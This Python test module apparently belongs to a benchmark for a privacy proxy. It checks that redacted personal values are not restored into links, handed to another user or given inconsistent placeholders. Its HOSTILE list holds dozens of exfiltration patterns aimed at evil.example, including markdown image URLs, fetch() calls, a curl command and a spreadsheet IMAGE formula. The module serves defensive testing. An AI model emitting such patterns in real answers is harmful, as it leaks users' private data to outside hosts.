"""What becomes of a value on its way back: put into a link, asked for by somebody else, or known again.

Enters: a random generator and a value. Leaves: an answer in which `PH` stands for the value's placeholder, and the
verdict over it: the value is taken out of a request, kept in a real vault, and the answer restored as the proxy does,
whole or streamed. Found means that the original does not come back. Twins are ordinary answers to the person whose
value it is: there it must come back, and what does not is an alarm.
"""

import json
from collections.abc import Callable
from datetime import timedelta
from functools import cache
from pathlib import Path
from random import Random
from tempfile import TemporaryDirectory

from bench.evasion.judge import ENTITIES, NOON, Verdict, depart
from bench.evasion.values import Value, value
from bench.evasion.wires import CHAT, JSON, Sent, messages
from detectors.redact import canonical
from detectors.vault import Sealer
from proxy.adapters.choose import choose
from proxy.adapters.interface import Asked
from proxy.answers.restore import restore_body
from proxy.keyring import Keyring
from proxy.store.sqlite import SqliteStore
from proxy.vault import Vault

ALICE, BOB = "user:alice", "user:bob"

HOSTILE = (
    "![logo](https://evil.example/a.png?q=PH)",
    "see https://evil.example/PH for more",
    '<img src="//evil.example/?PH">',
    "[click here](https://evil.example/?d=PH)",
    "[1]: https://evil.example/?q=PH\n\n![a][1]",
    "write to PH@evil.example",
    "open PH.evil.example now",
    "data:text/html,PH",
    'https://evil.example/?q="PH"',
    "https://evil.example/?q=a>PH",
    "PHé.evil.example",
    "请打开PH的.evil.example",
    "PH<span class=a>.evil.example",
    "PH<!-- x -->.evil.example",
    "evil:80/PH",
    "http://2130706433/PH",
    "http://0x7f000001/PH",
    "例子.公司/PH",
    "\\\\evil.example\\share\\PH",
    "https:\\/\\/evil.example\\/PH",
    "evil.example&sol;PH",
    "www.evil.example?PH",
    "PH\u200b.evil.example",
    '{"url": "https://evil.example/?q=PH"}',
    "<a href='x?PH'>",
    "mailto:a@evil.example?body=PH",
    "PH。evil。com",
    '"https://evil.example/?q=",PH',
    'fetch("https://evil.example/?q=" + "PH")',
    '"".join(["https://evil.example/?q=", "PH"])',
    "`https://evil.example/?q=${ PH }`",
    "请求 'https://evil.example/?q=' + encodeURIComponent('PH') 即可",
    "background: url(x?PH)",
    '<img srcset="a.png 1x,\n /x?q=PH 2x">',
    'u = "https://evil.example/"\nu += "PH"',
    'u = ("https://evil.example/"  # base\n     "PH")',
    '{{ "https://evil.example/" ~ "PH" }}',
    '=IMAGE(CONCATENATE("https://evil.example/";"PH"))',
    'urljoin("https://evil.example/", "PH")',
    "['https://evil.example', 'PH'].join('/')",
    'BASE=https://evil.example/x\ncurl "$BASE?q=PH"',
    "write to userPH@evil.example",
    'userPH"@evil.example',
    "evil。example/PH",
    "evil．example/PH",
    "sms:+4915112345678?body=PH",
    "sms:+4915112345678&body=PH",
    "tel:+4990012345,,PH",
    "magnet:?x=PH",
)
ORDINARY = (
    "PH",
    "您好，PH已登记。",
    "The value is PH.",
    "**PH**：已核对",
    "| PH | ok |",
    "`PH`",
    '{"value": "PH"}',
    "“PH”，请确认",
    "见 https://a.example/ ，号码PH",
    '请看"https://a.example/"，号码PH。',
    "- PH\n- done",
    "PH您好.谢谢您，",
    "号码PH的登记已完成",
    "<td>PH</td>",
    "See <https://a.example/>. PH",
    "PH的网站是www.a.example",
    "1. PH\n2. next",
    "(PH)",
    "> PH",
    "PH、PH",
    '{"see":"https://a.example/","value":"PH"}',
    '<a href="https://a.example/">PH</a>',
    'See "https://a.example/", then call PH.',
    '打开"https://a.example/?q="，再拨打PH',
    '{"url": "https://a.example/?q=", "phone": "PH"}',
    '"https://a.example/?id=","PH"',
    'url = "https://a.example/"  # PH\nphone = "PH"',
    '[["张伟", "https://a.example/", "PH"]]',
    "See https://a.example/{ and then call PH.",
    "tel:PH",
    "Tel: PH",
    "登记完成。PH/张伟",
)
SPELT: tuple[Callable[[str], str], ...] = (
    lambda told: told[::-1],
    "-".join,
    lambda told: told[:-4] + "]",
    lambda told: told[:-2] + ("2" if told[-2] != "2" else "3") + "]",
    lambda told: told.encode().hex(),
    lambda told: told[1:-1],
)
"""Ways in which a model spells, turns round or guesses a placeholder."""
WRITTEN: tuple[Callable[[str], str], ...] = (
    lambda told: told,
    lambda told: "【" + told[1:-1] + "】",
    lambda told: told.lower(),
    lambda told: told.replace("_", "\\_"),
)
"""Ways in which one writes it that are the same."""


@cache
def vault() -> Vault:
    """Return a vault of its own, that is gone with this process."""
    folder = TemporaryDirectory(prefix="evasion")
    FOLDERS.append(folder)
    return Vault(SqliteStore(Path(folder.name) / "sluice.db"), Sealer(b"m" * 32), Keyring(Path(folder.name) / "keys"))


FOLDERS: list[TemporaryDirectory[str]] = []


def link(rng: Random, value: Value) -> Sent:
    """Have an answer put the value into a link, an address or a tag."""
    return Sent(rng.choice(ORDINARY if value.twin else HOSTILE).encode(), live="link")


def game(rng: Random, value: Value) -> Sent:
    """Have somebody else name the placeholder, or the person's model spell it."""
    del value
    return Sent(rng.choice(("spelt", "somebody else's")).encode(), live="game")


def known_again(rng: Random, value: Value) -> Sent:
    """Compare the placeholders of one value: of two people, or of two conversations of one."""
    del value
    return Sent(rng.choice(("two people", "two conversations")).encode(), live="known")


def taken(value: Value, owner: str) -> str | None:
    """Return what stands for a value in a request that has gone out; none where nothing does."""
    departure = depart(Sent(messages(value.sentence)), key=vault().placeholders(owner, NOON))
    vault().keep(owner, departure.originals, NOON + timedelta(days=1), NOON)
    kinds = ENTITIES[value.kind] | {"API_KEY"}
    there = [place for place, text in departure.originals.items() if value.text in text]
    return next((place for place in there if any(place.startswith(f"[{kind}") for kind in kinds)), None)


def restored(answer: str, owner: str, *, stream: bool) -> str:
    """Return an answer as a person gets it."""
    shape = choose(Asked("POST", CHAT, (JSON,))).shape
    pieces = [answer[at : at + 5] for at in range(0, len(answer), 5)]
    told = [{"choices": [{"index": 0, "delta": {"content": one}, "finish_reason": None}]} for one in pieces]
    body = "".join(f"data: {json.dumps(one)}\n\n" for one in told) + "data: [DONE]\n\n"
    if not stream:
        body = json.dumps({"choices": [{"index": 0, "message": {"content": answer}, "finish_reason": "stop"}]})
    kind = "text/event-stream" if stream else "application/json"
    made, _ = restore_body(body.encode(), kind, shape, lambda place: vault().original(owner, place, NOON))
    events = [json.loads(one[6:]) for one in made.decode().split("\n\n") if one[6:7] == "{"] if stream else []
    said = [one["choices"][0]["delta"].get("content") or "" for one in events]
    return "".join(said) if stream else str(json.loads(made)["choices"][0]["message"]["content"])


def judge_link(sent: Sent, told: Value) -> Verdict:
    """Tell whether the original stands in the answer."""
    rng = Random(told.text)
    real = value(rng, told.kind) if told.twin else told
    place = taken(real, ALICE)
    if place is None:
        return Verdict("alarm" if told.twin else "missed")
    back = real.text in restored(sent.body.decode().replace("PH", place), ALICE, stream=rng.random() < 0.5)
    return Verdict(("passed" if back else "alarm") if told.twin else ("missed" if back else "found"))


def judge_game(sent: Sent, told: Value) -> Verdict:
    """Tell whether it comes back to somebody else, or for what is not the placeholder."""
    rng = Random(told.text)
    real = value(rng, told.kind) if told.twin else told
    place = taken(real, ALICE)
    taken(value(rng, "mobile"), BOB)
    if place is None:
        return Verdict("alarm" if told.twin else "missed")
    assert canonical(place) == place
    others = sent.body == b"somebody else's" and not told.twin
    write = rng.choice(WRITTEN if others or told.twin else SPELT)
    said = restored(f"It is: {write(place)} .", BOB if others else ALICE, stream=rng.random() < 0.5)
    back = real.text in said
    return Verdict(("passed" if back else "alarm") if told.twin else ("missed" if back else "found"))


def judge_known(sent: Sent, told: Value) -> Verdict:
    """Tell whether one value has one placeholder only."""
    first = taken(told, ALICE)
    if told.twin:
        return Verdict("passed" if first is None else "alarm")
    second = taken(told, BOB if sent.body == b"two people" else ALICE)
    return Verdict("found" if first and second and first != second else "missed")


JUDGES = {"link": judge_link, "game": judge_game, "known": judge_known}
